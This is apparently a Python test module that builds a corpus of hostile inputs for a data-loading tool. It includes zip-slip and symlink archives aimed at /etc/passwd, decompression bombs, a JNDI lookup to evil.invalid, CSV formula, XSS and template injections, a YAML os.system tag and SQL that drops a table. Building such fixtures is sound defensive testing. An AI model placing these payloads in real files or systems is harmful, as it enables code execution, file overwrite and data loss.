"""A corpus of inputs that somebody made to do harm, each with a way to write it: files, folders, archives, names."""

from __future__ import annotations

import gzip
import io
import json
import os
import socket
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import polars as pl

from tests.bad_input.media_files import PHOTO, huge_png, idx, sound
from tests.bad_input.workbooks import workbook

Make = Callable[[Path], str]
"""Writes the input below the project's folder, and says what `init` is to be given."""

ROWS = "x,y\n" + "".join(f"{number / 7:.3f},{'ab'[number % 2]}\n" for number in range(60))
NAMES = (
    "<meta http-equiv=refresh content=0;url=http://evil.invalid/>",
    "`x` [c](javascript:alert(1)) <b>",
    "\x1b]0;title\x07\x1b[2J\u202eevil",
    "<script>alert(1)</script>",
    "|a|\\| {{7*7}} {% raw %} ${jndi:ldap://evil.invalid} %(x)s $$",
    "=cmd|' /C calc'!A0",
    "../../etc/passwd",
)
"""Columns, and cells, that something would obey: pages, Markdown, terminals, templates, spreadsheets, paths."""


def content_of(name: str, content: bytes | str | Callable[[], bytes]) -> Make:
    """What takes long to make is given as a function, so that only the test that needs it does."""

    def make(root: Path) -> str:
        made = content() if callable(content) else content
        (root / name).write_bytes(made.encode() if isinstance(made, str) else made)
        return name

    return make


def zipped(*members: tuple[str, bytes], mode: int = 0) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            info = zipfile.ZipInfo("x")
            info.filename, info.compress_type, info.create_system = name, zipfile.ZIP_DEFLATED, 3
            info.external_attr = mode << 16
            with warnings.catch_warnings():
                # That a name stands there twice.
                warnings.simplefilter("ignore")
                archive.writestr(info, content)
    return packed.getvalue()


def tarred(*members: tuple[str, bytes, bytes]) -> bytes:
    """Members by name, kind and content; links lead to /etc/passwd."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        for name, kind, content in members:
            info = tarfile.TarInfo(name)
            info.type, info.size = kind, len(content)
            info.linkname = "/etc/passwd" if kind in (tarfile.SYMTYPE, tarfile.LNKTYPE) else ""
            archive.addfile(info, io.BytesIO(content))
    return packed.getvalue()


def folder(*files: tuple[str, bytes], change: Callable[[Path], None] = lambda place: None) -> Make:
    """A folder `set` of these files, to which `change` adds what is none."""

    def make(root: Path) -> str:
        for name, content in files:
            path = root / "set" / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content)
        change(root / "set")
        return "set"

    return make


def _pictures(*more: tuple[str, bytes], change: Callable[[Path], None] = lambda place: None) -> Make:
    files = [(f"{label}/{number}.png", PHOTO) for label in "ab" for number in range(8)]
    return folder(*files, *more, change=change)


def _link(target: str) -> Callable[[Path], None]:
    return lambda place: (place / "a" / "link.png").symlink_to(target)


def _socket(place: Path) -> None:
    # A path of a socket has 108 bytes at most, and those of tests are long.
    before = Path.cwd()
    os.chdir(place / "a")
    try:
        with closing(socket.socket(socket.AF_UNIX)) as listening:
            listening.bind("x.png")
    finally:
        os.chdir(before)


def _named() -> str:
    rows = [",".join(f'"{name}"' for name in (*NAMES, "y"))]
    for number in range(120):
        cells = [f"{number % 2 + number / 700:.4f}", *(f'"{NAMES[number % 3]}"' for _ in NAMES[1:]), "ab"[number % 2]]
        rows.append(",".join(cells))
    return "\n".join(rows) + "\n"


def _parquet() -> bytes:
    content = io.BytesIO()
    pl.DataFrame({"x": [1.0, 2.0] * 20, "y": ["a", "b"] * 20}).write_parquet(content)
    return content.getvalue()


def _footer_of_gigabytes() -> bytes:
    content = bytearray(_parquet())
    struct.pack_into("<I", content, len(content) - 8, 2**32 - 1)
    return bytes(content)


def _array(shape: str) -> bytes:
    header = f"{{'descr': '<f8', 'fortran_order': False, 'shape': {shape}, }}".encode().ljust(117) + b"\n"
    return b"\x93NUMPY\x01\0\x76\0" + header


def _text_of_a_png(num_bytes: int) -> bytes:
    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    text = b"a\0\0" + zlib.compress(bytes(num_bytes), level=1)
    pixels = zlib.compress(b"\0\0")
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        chunk(*part) for part in ((b"IHDR", head), (b"zTXt", text), (b"IDAT", pixels), (b"IEND", b""))
    )


def _sound(place: int, form: str, value: int) -> bytes:
    content = bytearray(sound())
    struct.pack_into(form, content, place, value)
    return bytes(content)


def _sounds(broken: bytes) -> Make:
    whole = [(f"{label}/{number}.wav", sound(400 + number)) for label in "ab" for number in range(8)]
    return folder(*whole, ("a/broken.wav", broken))


def _idx_pair(images: bytes, labels: bytes) -> Make:
    return folder(("train-images-idx3-ubyte", images), ("train-labels-idx1-ubyte", labels))


_FAR = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
_SHEET = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'

INPUTS: dict[str, Make] = {
    # Archives
    "zip that climbs out": content_of("d.zip", zipped(("../out.csv", ROWS.encode()))),
    "zip with an absolute name": content_of("d.zip", zipped(("/tmp/out.csv", ROWS.encode()))),
    "zip with a name of only dots": content_of("d.zip", zipped(("..", ROWS.encode()))),
    "zip with a link": content_of("d.zip", zipped(("d.csv", b"/etc/passwd"), mode=0o120777)),
    "zip with a name twice": content_of("d.zip", zipped(("d.csv", ROWS.encode()), ("d.csv", b"z"))),
    "zip with names that differ in case": content_of(
        "d.zip", zipped(("a/d.png", PHOTO), ("a/D.png", PHOTO), ("A/d.png", PHOTO), ("b/d.png", PHOTO))
    ),
    "zip with a name of 60,000 signs": content_of("d.zip", zipped(("a" * 60_000 + ".csv", ROWS.encode()))),
    "zip with a NUL in a name": content_of("d.zip", zipped(("a\0b.csv", ROWS.encode()))),
    "zip of 20,000 empty files": content_of("d.zip", lambda: zipped(*((f"{n}.png", b"") for n in range(20_000)))),
    "zip in a zip": content_of("d.zip", zipped(("in.zip", zipped(("d.csv", ROWS.encode()))))),
    "tar with a link": content_of("d.tar", tarred(("d.csv", tarfile.SYMTYPE, b""))),
    "tar with a hard link": content_of("d.tar", tarred(("d.csv", tarfile.LNKTYPE, b""))),
    "tar with a device": content_of("d.tar", tarred(("d.csv", tarfile.BLKTYPE, b""))),
    "tar with a pipe": content_of("d.tar", tarred(("d.csv", tarfile.FIFOTYPE, b""))),
    "tar that climbs out": content_of("d.tar", tarred(("a/../../d.csv", tarfile.REGTYPE, ROWS.encode()))),
    "tar with a name twice": content_of(
        "d.tar", tarred(("d.csv", tarfile.REGTYPE, ROWS.encode()), ("d.csv", tarfile.REGTYPE, b"z"))
    ),
    "gz of zeros": content_of("d.csv.gz", lambda: gzip.compress(bytes(300 << 20), compresslevel=1)),
    "bzip2": content_of("d.csv.bz2", b"BZh91AY&SY" + bytes(90)),
    "xz": content_of("d.csv.xz", b"\xfd7zXZ\0" + bytes(90)),
    "zstd": content_of("d.csv.zst", b"\x28\xb5\x2f\xfd" + bytes(90)),
    # Folders
    "folder with a link to a file outside": _pictures(change=_link("/etc/passwd")),
    "folder with a link to nothing": _pictures(change=_link("nowhere")),
    "folder with a link to itself": _pictures(change=lambda place: (place / "a" / "b").symlink_to(place)),
    "folder with a link to a device": _pictures(change=_link("/dev/zero")),
    "folder with a pipe": _pictures(change=lambda place: os.mkfifo(place / "a" / "x.png")),
    "folder with a socket": _pictures(change=_socket),
    "folder of tables with a pipe": folder(("d.csv", ROWS.encode()), change=lambda place: os.mkfifo(place / "e.csv")),
    "folder with a name that is no text": _pictures(
        change=lambda place: Path(os.fsdecode(os.fsencode(place) + b"/a/\xff\x1b[2J.png")).write_bytes(PHOTO) and None
    ),
    "folder 200 deep": _pictures((f"a/{'d/' * 200}1.png", PHOTO)),
    "a pipe": lambda root: (os.mkfifo(root / "d.csv"), "d.csv")[1],
    "a device": lambda root: "/dev/zero",
    "a terminal": lambda root: "/dev/stdin",
    # Pictures and sounds
    "picture of 4 billion pixels": _pictures(("a/x.png", huge_png())),
    "picture with a text of 300 MiB": lambda root: _pictures(("a/x.png", _text_of_a_png(300 << 20)))(root),
    "picture that is a script": _pictures(("a/x.png", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>")),
    "picture that is PostScript": _pictures(("a/x.png", b"%!PS-Adobe-3.0 EPSF-3.0\n(/tmp/pwned) (w) file\n%%EOF")),
    "sound of 4 GiB, by its header": _sounds(_sound(40, "<I", 2**32 - 1)),
    "sound of 4 billion samples a second": _sounds(_sound(24, "<I", 2**32 - 1)),
    "sound of 0 samples a second": _sounds(_sound(24, "<I", 0)),
    "sound of 65,535 channels": _sounds(_sound(22, "<H", 65_535)),
    "IDX of terabytes": _idx_pair(idx((2**32 - 1, 2**16, 2**16), bytes(9)), idx((2**32 - 1,), bytes(9))),
    "IDX of 255 dimensions": _idx_pair(idx((1,) * 255, bytes(9)), idx((2,), bytes(2))),
    "npy of terabytes": content_of("d.npy", _array("(1000000000000,)")),
    # Tables
    "one far cell": content_of("d.xlsx", workbook({"one": [["x", "y"]]}, {"xl/worksheets/sheet1.xml": _SHEET % _FAR})),
    "Parquet with a footer of 4 GiB": content_of("d.parquet", _footer_of_gigabytes()),
    "a cell of 1 MB": content_of("d.csv", ROWS + "a" * 1_000_000 + ",a\n"),
    "200 columns": content_of("d.csv", ",".join(f"c{n}" for n in range(200)) + "\n" + "1," * 199 + "1\n"),
    "JSON of brackets": content_of("d.jsonl", "[" * 100_000),
    "JSON in JSON": content_of("d.jsonl", '{"x": ' * 5_000 + "1" + "}" * 5_000),
    "a number of a million digits": content_of("d.jsonl", '{"x": ' + "9" * 1_000_000 + ', "y": "a"}\n'),
    "names that something obeys": content_of("d.csv", _named()),
    "a file whose name something obeys": content_of("\x1b[2J`<img src=x onerror=alert(1)>.csv", ROWS),
    "CSV of NUL bytes": content_of("d.csv", bytes(100_000)),
    "UTF-16 cut in half": content_of("d.csv", ROWS.encode("utf-16")[:-1]),
    # Databases and addresses
    **{
        f"address {address}": lambda root, address=address: address  # type: ignore[misc]
        for address in (
            "data:text/csv,x%2Cy%0A1%2Ca",
            "reference://x/d.csv",
            "dbfs:/d.csv",
            "jupyter://127.0.0.1:9/d.csv",
            "file:///etc/passwd",
            "memory://d.csv",
            "zip://d.csv::https://127.0.0.1:9/d.zip",
            "https://127.0.0.1:9/d.csv?token=s3cret",
            "https://me:s3cret@127.0.0.1:9/d.csv",
            "https://127.0.0.1:9/d.csv#access_token=s3cret",
            "HTTPS://127.0.0.1:9/d.csv?code=s3cret",
            "https://[::1/d.csv",
            "https:///d.csv",
            "postgresql://me:s3cret@127.0.0.1:9/shop",
            "sqlite:///file:shop.db?mode=rwc",
            "sqlite:////etc/passwd",
        )
    },
}

SQL = {
    "PRAGMA": "PRAGMA journal_mode = WAL",
    "ATTACH": "ATTACH 'other.db' AS other",
    "VACUUM INTO": "VACUUM INTO 'copy.db'",
    "two statements": "SELECT 1; DROP TABLE sales",
    "an extension": "SELECT load_extension('./code.so')",
    "a write": "INSERT INTO sales VALUES (1, 2)",
}

BLOCKS = {
    "a tag of Python": "pipelines: !!python/object/apply:os.system ['touch pwned']\n",
    "brackets in brackets": "pipelines: " + "[" * 2_000 + "\n",
    "references that grow": "a: &a [x, x]\n"
    + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [{f'*{chr(97 + n)}, ' * 9}]\n" for n in range(20)),
    "a reference to itself": "pipelines: &a {b: *a}\n",
    "a name that climbs out": "pipelines: {../../p: {}}\n",
    "a name that is a number": "pipelines: {1: {2: 3}}\n",
    "a name that something obeys": f"pipelines: {{{json.dumps(NAMES[2])}: {{}}}}\n",
    "no text": "pipelines: \x00\x01\n",
    "a list": "pipelines: [1]\n",
}
